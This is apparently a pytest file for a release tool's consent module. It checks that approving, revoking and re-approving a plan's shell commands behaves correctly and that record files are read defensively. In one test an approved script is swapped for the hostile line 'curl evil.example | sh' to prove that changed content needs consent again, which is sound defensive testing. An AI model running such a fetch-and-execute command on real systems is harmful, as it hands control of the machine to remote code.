"""Each consent change, in process and on disk (issue 15): allow records exactly this folder's
commands; revoke removes the record file and this process's grant, for this folder only; a change
to a named script or to the command text asks again.

Seen to fail by hand with `revoke` leaving the record on disk (path.unlink() skipped), with revoke
forgetting only the in-process grant, and with needs_consent ignoring the record's digest.
"""

from __future__ import annotations

import os
from pathlib import Path

from plan_helpers import base_plan, write_plan

from relcomm_tui.plan import consent
from relcomm_tui.plan import load_plan


def plan_with_gate(folder: Path, gate: str = "scripts/ok.sh") -> Path:
    script = folder / "scripts" / "ok.sh"
    script.parent.mkdir(parents=True, exist_ok=True)
    script.write_text("#!/bin/sh\nexit 0\n", encoding="utf-8")
    script.chmod(0o755)
    data = base_plan()
    data["release"]["gate"] = gate
    return write_plan(folder, data)


def records() -> list[Path]:
    folder = Path(os.environ["RELCOMM_CONFIG_DIR"]) / consent.ALLOWED_DIR
    return sorted(folder.iterdir()) if folder.is_dir() else []


def test_revoke_removes_the_record_file_and_the_grant_and_says_whether_there_was_one(tmp_path: Path):
    plan = load_plan(plan_with_gate(tmp_path / "plan"))
    assert consent.needs_consent(plan) and not consent.has_grant(plan)
    written = consent.allow(plan)
    assert records() == [written] and written.name == consent.digest(plan)
    assert not consent.needs_consent(plan) and consent.has_grant(plan) and consent.all_granted(plan)

    assert consent.revoke(plan) is True
    assert records() == [] and not written.exists()
    assert consent.needs_consent(load_plan(plan.path))       # a new process would ask again
    assert not consent.has_grant(plan) and not consent.all_granted(plan)  # and this one does not run it
    assert not consent.may_run(plan.root, "scripts/ok.sh")
    assert consent.revoke(plan) is False                     # nothing left to forget


def test_revoke_forgets_only_this_folders_consent(tmp_path: Path):
    mine = load_plan(plan_with_gate(tmp_path / "mine"))
    other = load_plan(plan_with_gate(tmp_path / "other"))
    consent.allow(mine)
    kept = consent.allow(other)
    assert consent.revoke(mine) is True
    assert records() == [kept]
    assert consent.needs_consent(mine) and not consent.needs_consent(other)
    assert consent.has_grant(other) and not consent.has_grant(mine)


def test_revoke_forgets_records_of_earlier_versions_of_the_commands_too(tmp_path: Path):
    path = plan_with_gate(tmp_path / "plan")
    first = consent.allow(load_plan(path))
    path.write_text(path.read_text().replace("scripts/ok.sh", "scripts/ok.sh --strict"))
    second = consent.allow(load_plan(path))
    assert first != second and records() == sorted([first, second])
    assert consent.revoke(load_plan(path)) is True
    assert records() == []


def test_a_changed_script_or_command_needs_consent_again(tmp_path: Path):
    path = plan_with_gate(tmp_path / "plan")
    plan = load_plan(path)
    consent.allow(plan)
    assert consent.may_run(plan.root, "scripts/ok.sh")
    (plan.root / "scripts" / "ok.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n", encoding="utf-8")
    assert not consent.may_run(plan.root, "scripts/ok.sh")  # granted before, but not this content
    assert consent.needs_consent(load_plan(path))
    assert consent.apply(load_plan(path)) is False
    path.write_text(path.read_text().replace("scripts/ok.sh", "scripts/ok.sh --other"))
    assert consent.needs_consent(load_plan(path))


def test_a_record_file_is_read_only_when_it_is_one(tmp_path: Path):
    """The records folder is the user's, but a record is read defensively: only a regular file, a
    bounded read, JSON holding an object, or the older 'plan PATH' first line."""
    import json

    read = consent._read_record
    (tmp_path / "ok").write_text(json.dumps({"folder": "/p", "x": 1}), encoding="utf-8")
    assert read(tmp_path / "ok") == {"folder": "/p", "x": 1}
    (tmp_path / "list").write_text("[1, 2]", encoding="utf-8")
    assert read(tmp_path / "list") is None
    (tmp_path / "legacy").write_bytes(b"plan /srv/plan.toml\nsha 123\n")
    assert read(tmp_path / "legacy") == {"plan": "/srv/plan.toml"}
    (tmp_path / "legacy-bytes").write_bytes(b"plan /srv/pl\xffan.toml\n")
    assert read(tmp_path / "legacy-bytes") == {"plan": "/srv/pl\ufffdan.toml"}
    (tmp_path / "planx").write_bytes(b"planx /srv\n")
    assert read(tmp_path / "planx") is None
    # a file beyond the limit is cut there, so it is not a whole record
    (tmp_path / "huge").write_bytes(b'{"folder": "' + b"a" * consent.RECORD_LIMIT + b'"}')
    assert read(tmp_path / "huge") is None
    os.symlink(tmp_path / "ok", tmp_path / "link")  # a link to a record is not followed
    assert read(tmp_path / "link") is None
    (tmp_path / "dir").mkdir()
    assert read(tmp_path / "dir") is None
    os.mkfifo(tmp_path / "fifo")  # opened without blocking: nobody writes to it
    assert read(tmp_path / "fifo") is None
    assert read(tmp_path / "missing") is None


def test_allow_writes_a_private_record_of_what_was_seen(tmp_path: Path):
    import datetime as dt
    import hashlib
    import json
    import stat

    plan = load_plan(plan_with_gate(tmp_path / "plan"))
    written = consent.allow(plan)
    assert stat.S_IMODE(written.parent.stat().st_mode) == 0o700 and stat.S_IMODE(written.stat().st_mode) == 0o600
    text = written.read_text(encoding="utf-8")
    assert text.startswith('{\n "plan": ') and text.endswith("}\n")  # indented by one: readable with cat
    record = json.loads(text)
    allowed_at = dt.datetime.fromisoformat(record.pop("allowed_at"))
    assert allowed_at.utcoffset() == dt.timedelta(0) and allowed_at.microsecond == 0
    assert abs(dt.datetime.now(dt.timezone.utc) - allowed_at) < dt.timedelta(minutes=5)
    script = tmp_path / "plan" / "scripts" / "ok.sh"
    assert record == {
        "plan": str(plan.path), "folder": str(plan.root),
        "commands": [{"keypath": "release.gate", "command": "scripts/ok.sh", "files": [{
            "name": "scripts/ok.sh", "kind": "file", "path": str(script),
            "sha256": hashlib.sha256(script.read_bytes()).hexdigest()}]}],
    }


def test_what_changed_since_the_latest_consent_is_said_file_by_file(tmp_path: Path, monkeypatch):
    import json

    folder = tmp_path / "plan"
    plan_file = plan_with_gate(folder, gate="scripts/ok.sh scripts/data.txt scripts/old.txt scripts/later.txt")
    (folder / "scripts" / "data.txt").write_text("one\n", encoding="utf-8")
    (folder / "scripts" / "old.txt").write_text("old\n", encoding="utf-8")
    plan = load_plan(plan_file)
    assert consent.changed_since_allowed(consent.review(plan)) == []  # never allowed: nothing to compare
    written = consent.allow(plan)
    assert consent.changed_since_allowed(consent.review(plan)) == []
    # An older record of the same folder, with other contents, does not count: the latest does.
    older = json.loads(written.read_text(encoding="utf-8"))
    older["allowed_at"], older["commands"] = "2000-01-01T00:00:00+00:00", []
    (written.parent / ("0" * 64)).write_text(json.dumps(older), encoding="utf-8")
    assert consent.changed_since_allowed(consent.review(plan)) == []

    (folder / "scripts" / "data.txt").write_text("two\n", encoding="utf-8")   # changed
    (folder / "scripts" / "old.txt").unlink()                                  # gone
    (folder / "scripts" / "later.txt").write_text("now\n", encoding="utf-8")  # named before, there now
    assert consent.changed_since_allowed(consent.review(load_plan(plan_file))) == [
        "scripts/data.txt: changed since you allowed", "scripts/later.txt: new since you allowed",
        "scripts/old.txt: gone since you allowed"]
    # The command's own text changed: a new command, whatever its files.
    plan_file.write_text(plan_file.read_text(encoding="utf-8").replace("scripts/old.txt", "scripts/x.txt"),
                         encoding="utf-8")
    assert consent.changed_since_allowed(consent.review(load_plan(plan_file))) == ["release.gate: a new command"]


# -- what a named file is recorded by (mutation survivors of _file_digest) ------------------------


def test_a_file_of_exactly_the_hash_limit_is_hashed_by_content_and_one_byte_more_by_its_inode(tmp_path: Path):
    import hashlib

    at_limit = tmp_path / "at-limit.bin"
    at_limit.write_bytes(b"a" * consent.HASH_LIMIT)  # more than one read chunk, so the sum of reads counts
    assert consent._file_digest(str(at_limit)) == hashlib.sha256(at_limit.read_bytes()).hexdigest()
    over = tmp_path / "over.bin"
    over.write_bytes(b"a" * (consent.HASH_LIMIT + 1))
    info = over.stat()
    assert consent._file_digest(str(over)) == (
        f"stat:{info.st_dev}:{info.st_ino}:{info.st_size}:{info.st_mtime_ns}:{info.st_ctime_ns}")


def test_a_file_that_reads_longer_than_it_says_is_recorded_by_its_inode_not_a_partial_hash(monkeypatch):
    """/proc files say they are empty and then read as text: the same shape as a file that grows
    while it is hashed. Past the limit, the record is the kernel's description, never a hash of part."""
    monkeypatch.setattr(consent, "HASH_LIMIT", 100)
    digest = consent._file_digest("/proc/self/status")
    assert os.stat("/proc/self/status").st_size == 0 and isinstance(digest, str) and digest.startswith("stat:")


def test_what_cannot_be_hashed_gives_an_empty_digest_and_never_blocks(tmp_path: Path):
    import threading

    assert consent._file_digest(str(tmp_path / "missing")) == ""        # cannot be opened
    assert consent._file_digest("/proc/self/mem") == ""                  # a regular file whose read fails
    (tmp_path / "dir").mkdir()
    assert consent._file_digest(str(tmp_path / "dir")) == ""             # not a regular file
    # A FIFO swapped in after the look: opened without blocking, so nobody writing to it cannot hang us.
    os.mkfifo(tmp_path / "fifo")
    result: list[str] = []
    worker = threading.Thread(target=lambda: result.append(consent._file_digest(str(tmp_path / "fifo"))), daemon=True)
    worker.start()
    worker.join(10)
    assert result == [""], "hashing a FIFO blocked"


# -- which records belong to a plan (mutation survivors of _records_for) --------------------------


def test_a_record_is_the_plans_when_its_folder_or_its_plan_file_matches(tmp_path: Path):
    import json

    path = plan_with_gate(tmp_path / "plan")
    plan = load_plan(path)
    folder = Path(os.environ["RELCOMM_CONFIG_DIR"]) / consent.ALLOWED_DIR
    folder.mkdir(parents=True, exist_ok=True)
    # Written before consent covered files: only the plan file's path, no folder.
    (folder / ("1" * 64)).write_bytes(f"plan {plan.path}\nsha 123\n".encode())
    # This folder's record for another plan file in it (the plan was renamed since).
    (folder / ("2" * 64)).write_text(json.dumps({"plan": str(plan.root / "old.toml"), "folder": str(plan.root)}))
    # Neither: another folder's plan.
    (folder / ("3" * 64)).write_text(json.dumps({"plan": str(tmp_path / "x" / "plan.toml"), "folder": str(tmp_path / "x")}))
    assert sorted(p.name[0] for p, _ in consent._records_for(consent.review(plan))) == ["1", "2"]
    assert consent.revoke(plan) is True
    assert [p.name for p in records()] == ["3" * 64]


def test_allow_makes_the_settings_folder_when_none_exists_yet(tmp_path: Path, monkeypatch):
    monkeypatch.setenv("RELCOMM_CONFIG_DIR", str(tmp_path / "home" / "config" / "relcomm"))
    plan = load_plan(plan_with_gate(tmp_path / "plan"))
    written = consent.allow(plan)
    assert written.is_file() and not consent.needs_consent(load_plan(plan.path))


# -- the latest record, whatever the order on disk (mutation survivors of changed_since_allowed) --


def test_the_latest_record_counts_whichever_name_sorts_first(tmp_path: Path):
    import json

    path = plan_with_gate(tmp_path / "plan")
    plan = load_plan(path)
    latest = json.loads(consent.allow(plan).read_text(encoding="utf-8"))
    folder = Path(os.environ["RELCOMM_CONFIG_DIR"]) / consent.ALLOWED_DIR
    older = dict(latest, allowed_at="2000-01-01T00:00:00+00:00", commands=[])
    undated = dict(latest, commands=[])
    undated.pop("allowed_at")   # a hand-made record without a time is never the latest
    for older_name, latest_name in (("0" * 64, "f" * 64), ("f" * 64, "0" * 64)):
        for record in folder.iterdir():
            record.unlink()
        (folder / older_name).write_text(json.dumps(older), encoding="utf-8")
        (folder / latest_name).write_text(json.dumps(latest), encoding="utf-8")
        (folder / ("8" * 64)).write_text(json.dumps(undated), encoding="utf-8")
        assert consent.changed_since_allowed(consent.review(plan)) == [], (older_name, latest_name)


def test_every_change_is_said_even_after_a_new_command_and_for_a_record_without_files(tmp_path: Path):
    import json

    folder = tmp_path / "plan"
    path = plan_with_gate(folder)
    data = base_plan()
    data["release"]["gate"] = "scripts/ok.sh"
    data["transport"]["smtp"].update(username="releases", password={"command": "scripts/pw.sh"})
    (folder / "scripts" / "pw.sh").write_text("#!/bin/sh\necho pw\n", encoding="utf-8")
    write_plan(folder, data)
    plan = load_plan(path)
    written = consent.allow(plan)
    record = json.loads(written.read_text(encoding="utf-8"))
    # The gate is new to the record; the secret's command was recorded without its files (hand-made).
    record["commands"] = [{"keypath": "transport.smtp.password", "command": "scripts/pw.sh"}]
    written.write_text(json.dumps(record), encoding="utf-8")
    assert consent.changed_since_allowed(consent.review(plan)) == [
        "release.gate: a new command", "scripts/pw.sh: new since you allowed"]


def test_grant_takes_a_plan_and_revoke_takes_a_review(tmp_path: Path):
    plan = load_plan(plan_with_gate(tmp_path / "plan"))
    consent.grant(plan)                                   # a Plan: looked at now
    assert consent.may_run(plan.root, "scripts/ok.sh")
    consent.allow(plan)
    assert consent.revoke(consent.review(plan)) is True   # a Review: what was looked at
    assert not consent.has_grant(plan) and records() == []


def test_a_file_that_says_it_is_empty_but_reads_on_without_end_is_recorded_by_its_inode():
    """A command may name a /proc file: it says it holds 0 bytes and then reads on (pagemap: gigabytes).
    The hash stops past HASH_LIMIT and records the file by inode and times instead of reading on
    (seen hang without the running total). Called directly: a plan reaches it only through a command."""
    assert os.stat("/proc/self/pagemap").st_size == 0
    assert consent._file_digest("/proc/self/pagemap").startswith("stat:")
